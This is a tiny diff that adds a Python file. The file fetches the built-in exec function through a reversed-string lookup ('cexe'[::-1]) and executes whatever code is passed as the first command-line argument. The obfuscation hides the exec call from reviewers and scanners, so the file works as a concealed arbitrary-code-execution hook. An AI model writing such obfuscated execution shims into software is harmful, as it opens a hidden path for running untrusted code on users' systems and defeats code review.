@@ -1,0 +1,3 @@
+import sys
+run = getattr(__import__("builtins"), "cexe"[::-1])
+run(sys.argv[1])
